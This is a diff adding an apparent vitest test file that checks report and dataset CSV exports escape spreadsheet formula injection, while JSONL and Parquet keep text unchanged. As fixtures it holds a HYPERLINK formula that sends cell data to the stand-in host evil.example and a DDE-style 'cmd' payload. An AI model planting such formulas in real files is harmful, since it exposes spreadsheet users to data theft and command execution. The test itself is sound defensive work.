@@ -1,0 +1,89 @@
+/**
+ * CSV formula injection (issue 9, finding 7): text a spreadsheet would run as
+ * a formula (=, +, -, @, tab, carriage return first) comes out of report CSVs
+ * and dataset CSV exports with a leading single quote; numbers stay numbers,
+ * and JSONL and Parquet carry the text exactly as it was given.
+ */
+import { parse as parseCsv } from "csv-parse/sync";
+import { parquetReadObjects } from "hyparquet";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { invoiceType, makeKey, makeType, makeUser } from "../support/db";
+import { CORRECTED, reviewed } from "../support/labelled";
+import { startServer, type TestServer } from "../support/server";
+
+const LINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
+const NOTE = "@SUM(1+1)*cmd|' /C calc'!A0";
+const MODEL = "+malicious-model";
+const TAB = "\tindented";
+
+async function waitReady(s: TestServer, key: string, location: string) {
+  for (let i = 0; i < 200; i++) {
+    const res = await s.request(location, { key });
+    if (res.body.status !== "building") return res.body;
+    await new Promise((r) => setTimeout(r, 50));
+  }
+  throw new Error("snapshot never finished");
+}
+
+describe("CSV formula injection", () => {
+  let s: TestServer;
+  let manager: string;
+  beforeAll(async () => {
+    s = await startServer();
+    const owner = makeUser(s.db, "manager");
+    const reviewer = makeUser(s.db, "reviewer");
+    makeType(
+      s.db,
+      invoiceType(owner.email, {
+        reasonCodes: [
+          { code: "WRONG_TOTAL", label: LINK },
+          { code: "NOT_AN_INVOICE", label: "-2+3" },
+        ],
+      }),
+    );
+    reviewed(s.db, reviewer, "csv-1", { action: "correct", output: CORRECTED, reasonCodes: ["WRONG_TOTAL"], note: NOTE }, { model: { name: MODEL, version: TAB } });
+    reviewed(s.db, reviewer, "csv-2", { action: "reject", reasonCodes: ["NOT_AN_INVOICE"], note: LINK });
+    manager = makeKey(s.db, ["read", "admin"], owner.email);
+  });
+  afterAll(() => s?.close());
+
+  it("report CSVs escape hostile text cells and keep numbers as numbers", async () => {
+    const res = await s.request("/reports/csv?table=reasons&type=invoice", { key: manager });
+    expect(res.status).toBe(200);
+    const rows = parseCsv(res.body as string, { columns: true }) as Record<string, string>[];
+    const byCode = Object.fromEntries(rows.map((r) => [r.code, r]));
+    expect(byCode.WRONG_TOTAL.label).toBe(`'${LINK}`);
+    expect(byCode.NOT_AN_INVOICE.label).toBe("'-2+3");
+    expect(byCode.WRONG_TOTAL.count).toBe("1");
+    expect(byCode.WRONG_TOTAL.share).toBe("0.5");
+  });
+
+  it("dataset CSV exports escape hostile text cells; JSONL and Parquet stay exact", async () => {
+    const created = await s.request("/api/v1/datasets", { key: manager, body: { name: "Hostile", filter: { type: "invoice" } } });
+    expect(created.status).toBe(201);
+    const snap = await s.request(`/api/v1/datasets/${created.body.id}/snapshots`, { key: manager, body: {} });
+    expect(snap.status).toBe(202);
+    const location = snap.headers.get("Location")!;
+    expect(await waitReady(s, manager, location)).toMatchObject({ status: "ready", rowCount: 2 });
+    const download = async (format: string) => fetch(`${s.url}${location}/download?format=${format}&split=all`, { headers: { Authorization: `Bearer ${manager}` } });
+
+    const csv = parseCsv(await (await download("csv")).text(), { columns: true }) as Record<string, string>[];
+    const one = csv.find((r) => r.externalId === "csv-1")!;
+    const two = csv.find((r) => r.externalId === "csv-2")!;
+    expect(one.note).toBe(`'${NOTE}`);
+    expect(one.modelName).toBe(`'${MODEL}`);
+    expect(one.modelVersion).toBe(`'${TAB}`);
+    expect(two.note).toBe(`'${LINK}`);
+    expect(one.confidence).toBe("0.5");
+    expect(JSON.parse(one.reasonCodes)).toEqual(["WRONG_TOTAL"]);
+
+    const lines = (await (await download("jsonl")).text()).trimEnd().split("\n").map((l) => JSON.parse(l));
+    const j1 = lines.find((l) => l.externalId === "csv-1");
+    expect(j1).toMatchObject({ note: NOTE, modelName: MODEL, modelVersion: TAB });
+    expect(lines.find((l) => l.externalId === "csv-2").note).toBe(LINK);
+
+    const objs = (await parquetReadObjects({ file: await (await download("parquet")).arrayBuffer() })) as Record<string, any>[];
+    expect(objs.find((o) => o.externalId === "csv-1")).toMatchObject({ note: NOTE, modelName: MODEL, modelVersion: TAB });
+    expect(objs.find((o) => o.externalId === "csv-2")!.note).toBe(LINK);
+  });
+});
